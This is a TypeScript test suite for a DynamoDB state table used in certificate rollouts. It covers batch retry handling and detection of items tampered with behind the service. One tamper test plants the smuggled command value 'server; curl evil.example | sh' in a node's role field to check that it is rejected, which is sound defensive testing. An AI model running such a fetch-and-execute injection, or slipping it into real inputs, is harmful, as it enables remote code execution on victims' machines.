import type { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { GetCommand, PutCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createStateTable, startDynamo } from '../../local/aws/dynamodb';
import type { AttemptRecord, RolloutRecord, WaveRecord } from '../../shared/rollout/model';
import { CorruptItemError } from '../../shared/state/dynamodb/items';
import { StateTable } from '../../shared/state/table';
import {
  attemptOf,
  describeStateStore,
  instanceIds,
  rollout,
  waveOf,
} from '../contract/state-store.contract';

const NOW = 1_800_000_000_000;
let dynamo: Awaited<ReturnType<typeof startDynamo>>;
let tables = 0;

beforeAll(async () => {
  dynamo = await startDynamo();
});

afterAll(async () => {
  await dynamo.stop();
});

/** A table of its own for each test, so every test starts from an empty store. */
async function freshTable(): Promise<StateTable> {
  tables += 1;
  const tableName = `state-${tables}`;
  await createStateTable(dynamo.client(), tableName);
  return new StateTable(dynamo.client(), tableName);
}

describeStateStore('DynamoDB on dynalite', freshTable);

/**
 * Make the client's next `times` BatchWriteItem and BatchGetItem calls each send only half of their
 * items and hand the rest back unprocessed, as DynamoDB does under load. Counts what it held back.
 */
function holdBackHalf(client: DynamoDBClient, times: number) {
  const heldBack = { writes: 0, reads: 0 };
  const left = { writes: times, reads: times };
  client.middlewareStack.add(
    (next, context) => async (args) => {
      const kind =
        context.commandName === 'BatchWriteItemCommand'
          ? 'writes'
          : context.commandName === 'BatchGetItemCommand'
            ? 'reads'
            : undefined;
      if (kind === undefined || left[kind] === 0) return next(args);
      left[kind] -= 1;
      const input = args.input as { RequestItems: Record<string, unknown> };
      const [[table, requests]] = Object.entries(input.RequestItems) as [[string, unknown]];
      // A write batch is a list of requests; a read batch is its keys plus read options.
      const { Keys: items, ...options } =
        kind === 'writes' ? { Keys: requests as unknown[] } : (requests as { Keys: unknown[] });
      const kept = items.slice(0, Math.ceil(items.length / 2));
      const asBatch = (part: unknown[]) => (kind === 'writes' ? part : { ...options, Keys: part });
      heldBack[kind] += items.length - kept.length;
      const result = await next({ ...args, input: { ...input, RequestItems: { [table]: asBatch(kept) } } });
      const output = result.output as unknown as Record<string, unknown>;
      output[kind === 'writes' ? 'UnprocessedItems' : 'UnprocessedKeys'] = {
        [table]: asBatch(items.slice(kept.length)),
      };
      return result;
    },
    { step: 'initialize', name: 'holdBackHalf' },
  );
  return heldBack;
}

/** A rollout of `count` targets in waves of 50, as startRollout takes it. */
function largeRollout(count: number): [RolloutRecord, WaveRecord[], AttemptRecord[]] {
  const targets = instanceIds(count);
  const waves: WaveRecord[] = [];
  for (let start = 0; start < count; start += 50)
    waves.push(waveOf('r-1', waves.length, targets.slice(start, start + 50)));
  const attempts = waves.flatMap((wave) => wave.targets.map((target) => attemptOf(wave, target)));
  return [rollout('r-1', 'prod', waves.length), waves, attempts];
}

describe('state table on dynalite', () => {
  it('is ready for the first write once created, even while DynamoDB still reports it CREATING', async () => {
    const slow = await startDynamo({ tableCreationMs: 300 });
    try {
      await createStateTable(slow.client(), 'state');

      const fresh = new StateTable(slow.client(), 'state');
      expect(await fresh.acquireLease('e', 'certs', 'run-1', NOW, 60_000)).toBe(true);
    } finally {
      await slow.stop();
    }
  });

  it('frees the active slot when a crash left the pointer written but not its rollout', async () => {
    const table = await freshTable();
    await dynamo.client().send(
      new PutCommand({
        TableName: table.tableName,
        Item: { pk: 'CLUSTER#prod', sk: 'ROLLOUT-ACTIVE', rolloutId: 'r-lost' },
      }),
    );

    const active = await table.getActiveRollout('prod');
    await table.startRollout(rollout('r-1', 'prod', 0), [], []);

    expect(active).toBeUndefined();
    expect((await table.getActiveRollout('prod'))?.rolloutId).toBe('r-1');
  });

  it('writes every wave and attempt of a rollout when DynamoDB leaves part of a batch unprocessed', async () => {
    const { tableName } = await freshTable();
    const client = dynamo.client();
    const heldBack = holdBackHalf(client, 3);
    const [rollout, waves, attempts] = largeRollout(130);

    await new StateTable(client, tableName).startRollout(rollout, waves, attempts);

    const table = new StateTable(dynamo.client(), tableName);
    expect(heldBack.writes).toBeGreaterThan(0);
    expect(await table.listAttempts('prod', 'r-1')).toEqual(attempts);
    expect(await table.getWave('prod', 'r-1', waves.length - 1)).toEqual(waves.at(-1));
  });

  it('reads every attempt asked for when DynamoDB leaves part of a batch unprocessed', async () => {
    const { tableName } = await freshTable();
    const [rollout, waves, attempts] = largeRollout(130);
    await new StateTable(dynamo.client(), tableName).startRollout(rollout, waves, attempts);
    const client = dynamo.client();
    const heldBack = holdBackHalf(client, 3);

    const read = await new StateTable(client, tableName).getAttempts(
      'prod',
      'r-1',
      attempts.map((attempt) => attempt.target),
    );

    expect(heldBack.reads).toBeGreaterThan(0);
    expect(read).toEqual(attempts);
  });
});

describe('state table items changed behind the service', () => {
  const node = { cluster: 'prod', instanceId: instanceIds(1)[0]!, role: 'client' as const, ip: '10.0.0.7' };

  /** Overwrite one attribute of a stored item, as a principal with table write access could. */
  async function tamper(table: StateTable, sk: string, changes: Record<string, unknown>): Promise<void> {
    const client = dynamo.client();
    const { Item } = await client.send(
      new GetCommand({ TableName: table.tableName, Key: { pk: 'CLUSTER#prod', sk } }),
    );
    await client.send(new PutCommand({ TableName: table.tableName, Item: { ...Item, ...changes } }));
  }

  it('refuses a node whose role was rewritten, naming the field and never the planted value', async () => {
    const table = await freshTable();
    await table.addNode(node, NOW);
    await tamper(table, `NODE#${node.instanceId}`, { role: 'server; curl evil.example | sh' });

    const reads = [
      () => table.getNode('prod', node.instanceId),
      () => table.getNodes('prod', [node.instanceId]),
      () => table.listNodes('prod'),
      () => table.updateNode('prod', node.instanceId, { status: 'idle' }, { lastAction: 'sync' }, NOW + 1),
    ];

    for (const read of reads) {
      const error = await read().then(
        () => undefined,
        (thrown: unknown) => thrown,
      );
      expect(error).toBeInstanceOf(CorruptItemError);
      const corrupt = error as CorruptItemError;
      expect(corrupt.retryable).toBe(false);
      expect(corrupt.message).toContain(`NODE#${node.instanceId}`);
      expect(corrupt.issues.join()).toMatch(/^role: /);
      expect(corrupt.message).not.toContain('evil');
    }
  });

  it('refuses a node record copied under another node, whose certificates it would otherwise claim', async () => {
    const table = await freshTable();
    const [first, second] = instanceIds(2);
    await table.addNode({ ...node, instanceId: first!, role: 'server' }, NOW);
    await table.addNode({ ...node, instanceId: second! }, NOW);
    await tamper(table, `NODE#${second}`, { instanceId: first, role: 'server' });

    await expect(table.getNode('prod', second!)).rejects.toThrow(
      /NODE#i-\w+ fails its checks: the record differs from the one its sort key names/,
    );
    expect((await table.getNode('prod', first!))?.role).toBe('server');
  });

  it('refuses a rollout whose attempt was pushed to an unknown state or an unbounded wave position', async () => {
    const table = await freshTable();
    const [started, waves, attempts] = largeRollout(3);
    await table.startRollout(started, waves, attempts);
    await tamper(table, `ROLLOUT#r-1#ATTEMPT#${attempts[0]!.target}`, { state: 'approved' });
    await tamper(table, 'ROLLOUT#r-1', { currentWave: 7 });

    await expect(table.listAttempts('prod', 'r-1')).rejects.toThrow(/state: /);
    await expect(table.getActiveRollout('prod')).rejects.toThrow(/currentWave: must be at most waveCount/);
    await expect(table.listRollouts('prod')).rejects.toBeInstanceOf(CorruptItemError);
  });

  it('refuses an audit entry of another cluster filed under this one', async () => {
    const table = await freshTable();
    const entry = { cluster: 'prod', at: NOW, id: 'a1', action: 'rotate', actor: 'schedule' };
    await table.audit(entry);
    await tamper(table, `AUDIT#${new Date(NOW).toISOString()}#a1`, { cluster: 'staging' });

    await expect(table.listAudit('prod', NOW)).rejects.toThrow(
      /cluster: differs from the cluster of its key/,
    );
  });
});
